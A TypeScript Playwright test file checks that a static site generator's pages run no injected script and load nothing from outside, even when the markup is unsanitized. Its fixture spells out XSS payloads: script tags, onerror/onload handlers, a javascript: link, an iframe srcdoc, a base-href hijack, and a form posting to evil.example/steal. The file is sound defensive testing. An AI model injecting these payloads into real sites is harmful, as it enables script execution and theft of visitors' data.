import type { Browser, BrowserContext } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Document } from "#model/document.ts";
import type { Entry } from "#model/entry.ts";
import { renderAboutPage } from "#publish/pages/about-page.ts";
import { renderArchivePage } from "#publish/pages/archive-page.ts";
import { renderArticlePage } from "#publish/pages/article-page.ts";
import { renderIndex } from "#publish/pages/index-page.ts";
import { renderStyle } from "#publish/pages/style.ts";
import { renderTopicPage } from "#publish/pages/topic-page.ts";
import { renderTopicsPage } from "#publish/pages/topics-page.ts";
import type { Topic } from "#publish/topic.ts";
import { hostileStrings } from "../../support/hostile-strings.ts";
import { channel, evidence, liveEntry, plainEntry } from "../../support/page-articles.ts";
import { openChromium } from "./chromium.ts";
import { activeParts, pwned } from "./safety.ts";
import { type ServedSite, serveDocuments } from "./serve-documents.ts";
import { visit } from "./visit.ts";

/** An article that says the same hostile thing in every field. */
const saying = (words: string, index: number): Entry => ({
  ...liveEntry,
  url: words,
  page: `articles/hostile-${index}.html`,
  title: evidence(words, "heading", words, { derived: true, notes: [words] }),
  authors: [evidence({ name: words, url: words }, "byline", words)],
  source: evidence({ name: words, url: words }, "attribution", words),
  summary: evidence(words, "meta", words),
  language: evidence(words, "meta", words),
  tags: [words],
  status: [words],
  html: "<p>A quiet text.</p>",
  text: "A quiet text.",
  images: [{ url: words, alt: words, caption: words, credit: words }],
  attachments: [{ url: words, type: words, length: 1, title: words }],
  updates: [{ time: words, opening: words }],
});

/** What a sanitizer that failed would let through: the policy of the page is the second wall. */
const unsanitized: Entry = {
  ...plainEntry,
  page: "articles/unsanitized.html",
  html: `<script>globalThis.pwned=1</script><script src="https://evil.example/x.js"></script>
<img src="data:image/png,x" onerror="globalThis.pwned=1"><svg onload="globalThis.pwned=1"></svg>
<iframe srcdoc="<script>top.pwned=1</script>"></iframe><iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/x"></object><video src="https://evil.example/x.mp4" autoplay></video>
<link rel="stylesheet" href="https://evil.example/x.css"><style>article{display:none}</style><base href="https://evil.example/">
<a id="bait" href="javascript:globalThis.pwned=1">Read on</a>
<form action="https://evil.example/steal"><button id="send">Send</button></form>`,
};

const channelSaying = (words: string) => ({
  ...channel,
  title: words,
  description: words,
  rights: words,
  image: words,
  pages: { footer: words },
});
const topicSaying = (words: string): Topic => ({ kind: "tag", name: words, folder: `topics/${words}/` });

const ALL = hostileStrings.join(" ");
const documents: readonly Document[] = [
  renderStyle(),
  renderIndex(channel, hostileStrings.map(saying)),
  renderArchivePage(channel, { path: "archive/1", entries: hostileStrings.map(saying), older: '"><script>' }),
  renderTopicsPage(channel, hostileStrings.map(topicSaying)),
  renderAboutPage(channel, hostileStrings.map(topicSaying)),
  renderTopicPage(channel, {
    ...topicSaying(ALL),
    folder: "topics/all/",
    entries: hostileStrings.map(saying),
    older: ALL,
  }),
  ...hostileStrings.map((words, index) =>
    renderArticlePage(channelSaying(words), saying(words, index), {
      related: [{ title: words, href: words, source: words }],
      topics: [topicSaying(words)],
    }),
  ),
  ...hostileStrings.map((words, index) => ({
    ...renderIndex(channelSaying(words), [saying(words, index)], { topics: [topicSaying(words)], older: words }),
    path: `index-${index}.html`,
  })),
  renderArticlePage(channel, unsanitized),
];

let browser: Browser;
let context: BrowserContext;
let site: ServedSite;

beforeAll(async () => {
  browser = await openChromium();
  context = await browser.newContext();
  site = await serveDocuments(documents);
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
});

describe("a hostile article", () => {
  const paths = documents
    .map(({ path }) => path)
    .filter((path) => path.endsWith(".html") && !path.includes("unsanitized"));

  test.each(paths)("runs nothing, loads nothing and needs no policy to stop it: %s", async (path) => {
    const { page, complaints, abroad } = await visit(context, site.origin + path);
    expect(await pwned(page)).toBe(false);
    expect(complaints).toEqual([]);
    // What is a fair address up to its quotation mark is a declared picture or the channel's icon ("other"), and no more.
    expect(abroad.filter((request) => !/^(?:image|other) https:\/\/good\.example\//.test(request))).toEqual([]);
    expect(await activeParts(page)).toEqual([]);
    await page.close();
  });

  test("whose markup nobody cleaned still runs and sends nothing: the policy holds", async () => {
    const { page, complaints, abroad } = await visit(context, site.origin + unsanitized.page);
    await page.locator("#bait").dispatchEvent("click");
    expect(await pwned(page)).toBe(false);
    expect(await page.locator("article").isVisible()).toBe(true);
    // Last: a form that the policy stops leaves Playwright waiting for the navigation, so nothing more is asked of the page.
    await page.locator("#send").dispatchEvent("click");
    await expect.poll(() => complaints.some((complaint) => complaint.includes("form-action"))).toBe(true);
    expect(complaints.length).toBeGreaterThan(6);
    expect(complaints.filter((complaint) => !complaint.includes("Content Security Policy"))).toEqual([]);
    expect(abroad).toEqual([]);
    expect(page.url()).toBe(site.origin + unsanitized.page);
    await page.close();
  });
});
